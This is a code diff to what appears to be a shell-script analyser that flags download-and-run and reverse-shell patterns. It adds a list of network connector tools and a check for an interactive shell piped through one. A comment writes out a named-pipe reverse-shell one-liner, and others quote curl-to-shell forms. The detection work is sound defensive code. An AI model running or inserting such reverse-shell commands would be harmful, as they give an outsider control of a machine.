@@ -52,6 +52,7 @@ export function loadersOf(commands: readonly Command[], end: number, layer: numb
 
     const loader =
       (readsProgram(command) ? ofFlow(flow, place, layer) : undefined) ??
+      (flow.shell && connectors.has(programName(command.words[0])) ? reverseShell(place) : undefined) ??
       ofWords(command, place, layer) ??
       ofFile(command, downloaded, place);
     if (loader !== undefined) found.push(loader);
@@ -73,9 +74,11 @@ interface Flow {
   readonly decoders: readonly Command[];
   /** Text that an `echo` or here-document put in. */
   readonly text: string;
+  /** An interactive shell writes it, and reads from elsewhere: one half of a reverse shell. */
+  readonly shell: boolean;
 }
 
-const noFlow: Flow = { offset: 0, urls: [], insecure: false, decoders: [], text: '' };
+const noFlow: Flow = { offset: 0, urls: [], insecure: false, decoders: [], text: '', shell: false };
 
 function nextFlow(flow: Flow, command: Command, offset: number): Flow {
   const name = programName(command.words[0]);
@@ -90,6 +93,7 @@ function nextFlow(flow: Flow, command: Command, offset: number): Flow {
     insecure: flow.insecure || (download?.insecure ?? false),
     decoders: decodes ? [...flow.decoders, command].slice(0, 8) : flow.decoders,
     text: printed || command.input || flow.text,
+    shell: flow.shell || (shells.has(name) && command.words.includes('-i')),
   };
 }
 
@@ -133,6 +137,13 @@ function payload(decoded: string | undefined, flow: Flow, place: Place, layer: n
   };
 }
 
+/** `mkfifo f; cat f | sh -i | nc HOST PORT > f`: they carry a shell to where it is not. */
+const connectors = new Set('nc ncat netcat nc.traditional nc.openbsd telnet socat openssl'.split(' '));
+
+function reverseShell(place: Place): Loader {
+  return { kind: 'reverse-shell', origin: 'variable', urls: [], insecure: false, ...place };
+}
+
 const shells = new Set('sh bash dash ash ksh zsh mksh'.split(' '));
 const interpreter = /^(?:python|pypy|perl|ruby|node|nodejs|php|lua)[\d.]*$/;
 
@@ -159,8 +170,7 @@ function isInput(path: string | undefined): boolean {
 
 /** `sh -c "$(curl …)"`, `bash <(curl …)`, `eval`, code that fetches or decodes, and reverse shells. */
 function ofWords(command: Command, place: Place, layer: number): Loader | undefined {
-  if (isReverseShell(command))
-    return { kind: 'reverse-shell', origin: 'variable', urls: [], insecure: false, ...place };
+  if (isReverseShell(command)) return reverseShell(place);
   const name = programName(command.words[0]);
   const runs = shells.has(name) || interpreter.test(name) || ['eval', 'source', '.', 'exec'].includes(name);
   const words = runs ? command.words.slice(1) : command.words.slice(0, 1);
